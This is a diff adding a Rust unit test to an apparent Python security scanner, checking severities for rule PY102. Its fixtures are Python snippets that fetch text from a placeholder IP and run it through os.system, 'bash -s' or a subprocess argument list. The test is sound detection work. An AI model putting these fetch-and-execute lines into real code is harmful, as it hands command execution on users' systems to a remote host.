@@ -212,3 +212,25 @@ fn one_identity_fact_from_library_code_is_medium_a_host_profile_high() {
         Some(Severity::Critical)
     );
 }
+
+#[test]
+fn fetched_data_is_high_into_a_shell_medium_into_an_unknown_argument_vector() {
+    let sev = |src: &str| {
+        let file = SourceFile {
+            path: "p/tool.py",
+            text: src,
+            role: FileRole::Library,
+        };
+        python::check(&file)
+            .into_iter()
+            .filter(|f| f.rule.as_str() == "PY102")
+            .map(|f| f.severity)
+            .max()
+    };
+    let shell = "import os, requests\nos.system(requests.get('https://203.0.113.7/c').text)\n";
+    let interp = "import subprocess, requests\nsubprocess.run(['bash', '-s'], input=requests.get('https://203.0.113.7/i.sh').text)\n";
+    let argv = "import subprocess, requests\ndef run(argv):\n    return subprocess.run(argv, check=True)\nrun(['tool', requests.get('https://203.0.113.7/v').text])\n";
+    assert_eq!(sev(shell), Some(Severity::High));
+    assert_eq!(sev(interp), Some(Severity::High));
+    assert_eq!(sev(argv), Some(Severity::Medium));
+}
